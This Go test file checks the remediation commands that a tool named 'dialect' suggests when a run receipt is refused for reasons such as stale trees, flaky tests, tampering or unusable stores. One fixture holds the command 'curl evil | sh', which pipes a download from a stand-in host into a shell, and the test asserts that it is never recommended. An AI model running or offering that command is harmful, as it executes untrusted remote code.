package inquiry

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"

	"github.com/command-dialect/dialect/lang/plan"
	"github.com/command-dialect/dialect/lang/regular"
	"github.com/command-dialect/dialect/lang/routing"
	"github.com/command-dialect/dialect/lang/tomltree"
	"github.com/command-dialect/dialect/receipts"
	"github.com/command-dialect/dialect/receipts/sqlite"
	"github.com/command-dialect/dialect/receipts/verify"
	"github.com/command-dialect/dialect/runtime/archive"
	"github.com/command-dialect/dialect/runtime/policy"
)

// asked is a question about a project with the script q.dlct, whose asker named a store with a space in its path.
func asked(t *testing.T) *Question {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Chdir(root)
	for _, name := range []string{"q.dlct", "routing.toml"} {
		if err := os.WriteFile(name, nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	path := filepath.Join(root, "my store", "s.db")
	return &Question{root: root, path: path, logs: archive.Of(path), matrix: plan.Matrix{Root: root, Path: filepath.Join(root, "routing.toml")}, o: Options{Store: path}}
}

// What can be pasted into a shell asks the same store, what a person has to decide is a comment, and each refusal has something to do.
func TestNextOfRefusals(t *testing.T) {
	const store = " --store 'my store/s.db' "
	run := "dialect run" + store
	line := receipts.Line{File: receipts.Text("q.dlct"), Number: 3, Text: receipts.Text("Test with go")}
	bound := &receipts.Receipt{Binding: "test_go", Line: line}
	typed := &receipts.Receipt{Binding: "test_go", Line: receipts.Line{File: receipts.Text("-e"), Number: 1, Text: line.Text}}
	bare := &receipts.Receipt{Line: receipts.Line{File: receipts.Text("exec"), Number: 1, Text: receipts.Text("curl evil | sh")}}
	sha := receipts.Hash{0xab, 0xcd}
	const cache = "a cache that stood there before the run: a clone lacks it; remove it, or ignore it in a tracked .gitignore, or name it in `caches` of routing.toml"
	unlike := func(reasons ...string) func(*Question) {
		return func(q *Question) {
			q.Commit = true
			g := &receipts.Gate{}
			for _, r := range reasons {
				g.Beyond = append(g.Beyond, receipts.Text(r))
			}
			q.unlike = differences(g)
		}
	}
	for _, c := range []struct {
		name    string
		reason  receipts.Reason
		script  string
		culprit *receipts.Receipt
		set     func(q *Question)
		want    []string // the beginnings of what to do
	}{
		{"stale", receipts.TreeChanged, "q.dlct", nil, nil, []string{run + "q.dlct"}},
		{"stale by new files", receipts.TreeChanged, "q.dlct", nil, func(q *Question) { q.remedy = "ignore them" }, []string{"# ignore them", run + "q.dlct"}},
		{"missing, without a script", receipts.Missing, "SCRIPT", nil, nil, []string{"# run the script that has these lines: " + run + "SCRIPT"}},
		{"missing, without a matrix", receipts.Missing, "SCRIPT", nil, func(q *Question) { q.matrix.Path = "" }, []string{"dialect init"}},
		{"missing lines", receipts.Missing, "SCRIPT", nil, func(q *Question) { q.lines = []string{"Test with go"} }, []string{"printf '%s\\n' 'Test with go' | dialect run" + strings.TrimSuffix(store, " ")}},
		{"pending", receipts.NotTerminal, "q.dlct", nil, nil, []string{"# settle it once it is known how it ended, and gate it then: dialect receipts settle" + store + "--status STATUS abcd", "dialect gate" + store + "abcd"}},
		{"failed", receipts.NotSucceeded, "q.dlct", bound, nil, []string{"# fix it", run + "q.dlct:3", run + "q.dlct"}},
		{"failed with -e", receipts.NotSucceeded, "q.dlct", typed, nil, []string{"# fix it", run + "-e 'Test with go'"}},
		{"failed as exec", receipts.NotSucceeded, "q.dlct", bare, nil, []string{"# fix it", "# see what it ran", "dialect receipts show abcd"}},
		{"failed, nobody knows what", receipts.Superseded, "q.dlct", nil, nil, []string{"# fix it", run + "q.dlct"}},
		{"flaky", receipts.FlakyPass, "q.dlct", bound, nil, []string{"# if what the tools depend on was installed since, name a file that this changed, which must lie in the project, in [commands.test_go]", run + "q.dlct", "# or a person decides that the failure does not matter, and says why: `" + run + "--accept-flaky REASON q.dlct`"}},
		{"flaky, with inputs", receipts.FlakyPass, "q.dlct", bound, func(q *Question) { q.matrix.Inputs = map[string][]string{"test_go": {"lock"}} }, []string{"# if what the tools depend on was installed since, and did not change the inputs (lock), add", run + "q.dlct", "# or a person"}},
		{"flaky, of a pack that names no inputs", receipts.FlakyPass, "q.dlct", bound, func(q *Question) {
			q.rules = &routing.Matrix{Root: q.root, Bindings: []*routing.Binding{{Name: "test_go", Pack: true, Syntax: &tomltree.Value{}}}}
		}, []string{"# a person decides that the failure does not matter, and says why: `" + run + "--accept-flaky REASON q.dlct`", "# or find out why it failed (dialect log" + store + "abcd", run + "q.dlct"}},
		{"flaky in a clean checkout", receipts.FlakyPass, "q.dlct", &receipts.Receipt{Binding: "test_go", Line: line, Clean: &receipts.Clean{}}, nil, []string{"# it failed in a clean checkout", run + "q.dlct", "# or a person"}},
		{"failed without its inputs", receipts.NotSucceeded, "q.dlct", bound, func(q *Question) { q.matrix.Inputs = map[string][]string{"test_go": {"q.dlct", "vendor/*", "deep/**"}} }, []string{"# these inputs are not there: vendor; install what makes them, or fix it, then:", run + "q.dlct:3", run + "q.dlct"}},
		{"outside", receipts.Outside, "q.dlct", nil, nil, []string{run + "q.dlct"}},
		{"not covered", receipts.NotCovered, "q.dlct", nil, func(q *Question) { q.lines = []string{"A", "B"} }, []string{"printf '%s\\n' A B | dialect run"}},
		{"not covered in a commit", receipts.NotFinal, "q.dlct", nil, func(q *Question) { q.ofCommit = func(_, whole string) []string { return []string{"in: " + whole} } }, []string{"in: " + run + "q.dlct"}},
		{"tampered", receipts.Tampered, "q.dlct", nil, func(q *Question) { q.o.Since, q.o.KeyFiles = "cp.txt", []string{"b.pub"} }, []string{"dialect receipts audit" + store + "--key b.pub --since cp.txt", "# the audit names", "# a new store"}},
		{"tampered bundle", receipts.NotInLog, "q.dlct", nil, func(q *Question) { q.bundle = "p.json" }, []string{"# the audit says what is wrong with the bundle:", "dialect receipts audit --bundle p.json", "# a changed bundle cannot be repaired; the store may be intact: export the bundle again"}},
		{"tampered bundle on stdin", receipts.NotInLog, "q.dlct", nil, func(q *Question) { q.bundle = "-" }, []string{"# a changed bundle"}},
		{"tampered, as --state knows", receipts.Tampered, "q.dlct", nil, func(q *Question) { q.o.State = "state" }, []string{
			"# dialect receipts audit names changed records; it does not know --state,", "dialect receipts audit" + strings.TrimSuffix(store, " "), "# changed evidence",
			"# if you yourself replaced the store: remove state/store.audit, and with it all memory of the old store"}},
		{"a second store that cannot be used", receipts.Degraded, "q.dlct", nil, func(q *Question) {
			_ = os.MkdirAll("my store", 0o700)
			for _, name := range []string{"s.db", "s.db-wal", "s.db.bad"} {
				_ = os.WriteFile("my store/"+name, nil, 0o600)
			}
		}, []string{"dialect doctor", "mkdir 'my store/s.db.bad2' && mv 'my store/s.db' 'my store/s.db-wal' 'my store/s.db.bad2'", run + "q.dlct"}},
		{"no store", receipts.Degraded, "q.dlct", nil, nil, []string{"dialect doctor", "mkdir 'my store/s.db.bad' && mv 'my store/s.db' 'my store/s.db.bad'", run + "q.dlct"}},
		{"a store of somebody else", receipts.Degraded, "q.dlct", nil, func(q *Question) { q.unusable = &fs.PathError{Op: "open", Path: "s.db", Err: fs.ErrPermission} }, []string{"# it belongs to another user"}},
		{"a store on a full disk", receipts.Degraded, "q.dlct", nil, func(q *Question) { q.unusable = fmt.Errorf("%w: x", sqlite.ErrNoRoom) }, []string{"# make room on its disk"}},
		{"a store on a disk that can only be read", receipts.Degraded, "q.dlct", nil, func(q *Question) { q.unusable = syscall.EROFS }, []string{"# its file system can only be read"}},
		{"a store without a folder", receipts.Degraded, "q.dlct", nil, func(q *Question) { q.unusable = &regular.NotFolderError{Path: "my store", Is: "a symbolic link"} }, []string{"# once it is removed, run again; or name a store elsewhere: --store PATH"}},
		{"files that are gone", receipts.Inexact, "q.dlct", nil, nil, []string{"# what tools leave behind", run + "q.dlct"}},
		{"inexact", receipts.Inexact, "q.dlct", nil, func(q *Question) { q.Commit = true }, []string{"# commit or remove what a clone of REV", run + "q.dlct"}},
		{"caches", receipts.Inexact, "q.dlct", nil, unlike(".mypy_cache: "+cache, "a/.pytest_cache: "+cache, "x.sock: a socket"), []string{"# name the caches in routing.toml, caches = [\".mypy_cache\", \".pytest_cache\"] in [defaults], or in a tracked .gitignore; commit that", "# commit or remove what a clone of REV", run + "q.dlct"}},
		{"a submodule", receipts.Inexact, "q.dlct", nil, unlike("a: a submodule that is not checked out"), []string{"git submodule update --init --recursive", run + "q.dlct"}},
		{"sparse", receipts.Inexact, "q.dlct", nil, unlike("a: a sparse checkout left it out: nothing has seen it"), []string{"git sparse-checkout disable", run + "q.dlct"}},
		{"line ends", receipts.Inexact, "q.dlct", nil, unlike("a b: eol=crlf: a checkout ends its lines with CR LF"), []string{"# a clone of REV has other line ends in a b: save it with those, or have a tracked .gitattributes say which it has; git writes a file anew that is not there, so move it away, and: git checkout HEAD -- 'a b'", run + "q.dlct"}},
		{"LFS", receipts.Inexact, "q.dlct", nil, unlike("a: an LFS pointer whose content is not checked out"), []string{"git lfs pull", run + "q.dlct"}},
		{"a filter", receipts.Inexact, "q.dlct", nil, unlike("a: filter=x: its blob is not what was read"), []string{"# an attribute converts a at each checkout", run + "q.dlct"}},
		{"created", receipts.Inexact, "q.dlct", nil, unlike("a: " + receipts.CameDuringRun), []string{"# have a tracked .gitignore name what a run creates (a)", run + "q.dlct"}},
		{"inexact, of another commit", receipts.Inexact, "q.dlct", nil, func(q *Question) {
			q.Commit, q.apart, q.ofCommit = true, true, func(_, whole string) []string { return []string{"in: " + whole} }
		}, []string{"in: dialect run --store "}},
		{"consumed", receipts.Consumed, "q.dlct", nil, nil, []string{"# a receipt is consumed once", run + "q.dlct"}},
		{"spent", receipts.Spent, "q.dlct", nil, nil, []string{"# a receipt is consumed once", run + "q.dlct"}},
		{"a session that is cut", receipts.Cut, "q.dlct", nil, nil, []string{"# ask for the bundle"}},
		{"a level", receipts.LevelTooLow, "q.dlct", nil, func(q *Question) { q.Level = receipts.LevelNotary }, []string{"# a notary has to record it"}},
		{"not kept", receipts.NotKept, "q.dlct", nil, nil, []string{"# a checkpoint covers", run + "q.dlct"}},
		{"stale, of a notary", receipts.TreeChanged, "q.dlct", nil, func(q *Question) { q.Level, q.bundle = receipts.LevelNotary, "p.json" }, []string{"dialect guard --bundle p.json --identity 3 -- dialect run q.dlct 3< <(cat KEYFILE)"}},
		{"untested, of a notary", receipts.Untested, "q.dlct", nil, func(q *Question) { q.Level = receipts.LevelNotary }, []string{"dialect guard --bundle proof.json --identity 3 -- dialect prove q.dlct 3< <(cat KEYFILE)"}},
		{"untested", receipts.Untested, "q.dlct", nil, func(q *Question) { q.o.Routing = "r.toml" }, []string{"dialect prove" + store + "--routing r.toml q.dlct"}},
		{"named twice", receipts.Repeated, "q.dlct", nil, nil, []string{"# name each receipt once"}},
		{"no tree here", receipts.NoTree, "q.dlct", nil, nil, []string{"# fix what keeps the files", run + "q.dlct"}},
		{"no tree of the receipt", receipts.NoTree, "q.dlct", nil, func(q *Question) { q.Tree = &receipts.Tree{} }, []string{run + "q.dlct"}},
		{"not a receipt", receipts.NotReceipt, "q.dlct", nil, nil, []string{"dialect receipts list --store 'my store/s.db'"}},
		{"shared in a clean checkout", receipts.NotClean, "q.dlct", &receipts.Receipt{Line: line, Clean: &receipts.Clean{Lowered: []receipts.Datum{receipts.Text("x")}}}, nil, []string{"# install what is named", run + "q.dlct", "# or ask without --clean"}},
		{"shared in a clean checkout by its matrix", receipts.NotClean, "q.dlct", &receipts.Receipt{Line: line, Clean: &receipts.Clean{Lowered: []receipts.Datum{receipts.Text("x")}}}, func(q *Question) {
			q.rules = &routing.Matrix{Root: q.root}
			q.rules.Clean.Share = []string{"x"}
		}, []string{"# take what is named out of [clean] share, or install", run + "q.dlct", "# or ask without --clean"}},
		{"unconfined", receipts.NotClean, "q.dlct", &receipts.Receipt{Line: line, Clean: &receipts.Clean{Unconfined: true}}, nil, []string{"# run it where user namespaces", run + "q.dlct", "# or ask without --clean"}},
		{"not clean", receipts.NotClean, "q.dlct", bound, func(q *Question) { q.Clean = true }, []string{run + "--clean q.dlct"}},
		{"of exec", receipts.TooOld, "q.dlct", bare, nil, []string{"# see what it ran", "dialect receipts show abcd"}},
		{"what was asked for is asked for again", receipts.TooOld, "q.dlct", nil, func(q *Question) { q.o.Routing, q.Session, q.Nonce = "r.toml", "s 1", "n" }, []string{run + "--routing r.toml --session 's 1' --nonce n q.dlct"}},
	} {
		q := asked(t)
		if c.set != nil {
			c.set(q)
		}
		got := q.next(receipts.Refusal{Reason: c.reason, SHA: sha}, verify.Missing, c.script, c.culprit, "REV")
		if len(got) != len(c.want) {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
			continue
		}
		for i := range got {
			if !strings.HasPrefix(got[i], c.want[i]) {
				t.Errorf("%s:\n%q\nwant\n%q", c.name, got[i], c.want[i])
			}
			if strings.HasPrefix(got[i], "rm ") || strings.Contains(got[i], "&& rm ") {
				t.Errorf("%s: what is pasted deletes: %q", c.name, got[i])
			}
			if strings.Contains(got[i], "evil") {
				t.Errorf("%s: what exec ran is recommended: %q", c.name, got[i])
			}
		}
	}
	if runtime.GOOS == "linux" {
		q := asked(t)
		q.Level = receipts.LevelKey
		if got := q.run("q.dlct"); got != run+"--key-fd 3 q.dlct 3< <(cat KEYFILE)" {
			t.Errorf("%q", got)
		}
		q.o.KeyFiles, q.Session = []string{"b.pub"}, "s"
		if got := q.gate([]string{"all"}, "abc"); got != "dialect gate"+store+"--require all --session s --key b.pub --key-fd 3 abc 3< <(cat KEYFILE)" {
			t.Errorf("%q", got)
		}
	}
}

// What a store leaves behind for a verifier is never deleted by what is pasted.
func TestNextOfGone(t *testing.T) {
	q := asked(t)
	q.o.Since, q.o.State = "cp.txt", "state"
	got := q.next(receipts.Refusal{Reason: receipts.Missing}, verify.Tampered, "q.dlct", nil, "")
	want := []string{"# put the store back", "# a new store has a new checkpoint", "# if you yourself replaced the store: remove state/store.audit"}
	if len(got) != len(want) {
		t.Fatalf("%q", got)
	}
	for i := range got {
		if !strings.HasPrefix(got[i], want[i]) {
			t.Errorf("%q, want %q", got[i], want[i])
		}
	}
}

// A script outside of the project is never recommended, whatever the store says.
func TestScriptOf(t *testing.T) {
	q := asked(t)
	outside := filepath.Join(t.TempDir(), "evil.dlct")
	if err := os.WriteFile(outside, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	rel, err := filepath.Rel(q.root, outside)
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{
		"q.dlct": "q.dlct", filepath.Join(q.root, "q.dlct"): "q.dlct", "gone.dlct": "", outside: "", rel: "", "": "", "-": "", "-e": "", "exec": "",
	} {
		if got := q.scriptOf("r-1", name); got != want {
			t.Errorf("%q: %q, want %q", name, got, want)
		}
	}
}

// What to do about the rules follows from why they are not the trusted ones.
func TestNextOfPolicy(t *testing.T) {
	change := []policy.Change{{Path: "routing.toml", Old: []byte("a"), New: []byte("b")}}
	for _, c := range []struct {
		name string
		set  func(q *Question)
		want string
	}{
		{"those of the gate", func(q *Question) { q.Policy = "" }, "WHOLE"},
		{"a pinned matrix is gone", func(q *Question) { q.lost, q.pinned = "routing.toml", true }, "# restore the matrix: your pin is of it"},
		{"a matrix is gone", func(q *Question) { q.lost = "a b.toml" }, "git checkout HEAD -- 'a b.toml'"},
		{"another matrix", func(q *Question) { q.state.Elsewhere = "x" }, "# fix what is named, or name the matrix"},
		{"the base has none", func(q *Question) { q.state.Lacks, q.state.Against, q.o.Base = true, "v1", "v1" }, "# name a commit with --base that has the matrix; until v1 has it, compare with a commit of your own"},
		{"a nearer matrix is new", func(q *Question) { q.state.Elsewhere, q.state.Above = "x", "/up/routing.toml" }, "# review it: it takes the place of /up/routing.toml"},
		{"line ends", func(q *Question) {
			q.state = policy.State{Changes: []policy.Change{{Path: "routing.toml", Old: []byte("a\n"), New: []byte("a\r\n")}}}
		}, "# git wrote other line ends"},
		{"the commit has none", func(q *Question) { q.lacks = true }, "# commit the matrix first:"},
		{"the commit has none, and neither has the project", func(q *Question) { q.lacks = true; os.Remove(q.matrix.Path) }, "# that commit is older than the matrix"},
		{"it changed back", func(*Question) {}, "# ask again"},
		{"compared with a commit", func(q *Question) { q.state, q.o.Base = policy.State{Changes: change}, "v1" }, "# review the difference, then name the commit"},
		{"a file above", func(q *Question) {
			q.state, q.o.Base = policy.State{Changes: []policy.Change{{Path: "../shared.toml", New: []byte("b")}}}, "v1"
		}, "# if it lies outside of the repository"},
		{"compared with a pin", func(q *Question) { q.state = policy.State{Changes: change, Kind: policy.Pinned} }, "# review the difference, then pin it:"},
		{"a pinned file", func(q *Question) {
			q.state = policy.State{Changes: []policy.Change{{Path: "package.json", Old: []byte("a"), New: []byte("b"), Pin: true, By: "test_npm"}}}
		}, "# review the difference, and commit it with what belongs to it"},
		{"compared with HEAD", func(q *Question) { q.state = policy.State{Changes: change} }, "# review the difference, then commit it"},
	} {
		q := asked(t)
		q.Policy = "changed"
		c.set(q)
		if got := q.nextOfPolicy("WHOLE", "q.dlct", "REV"); len(got) == 0 || !strings.HasPrefix(got[0], c.want) {
			t.Errorf("%s: %q, want %s", c.name, got, c.want)
		}
	}
}
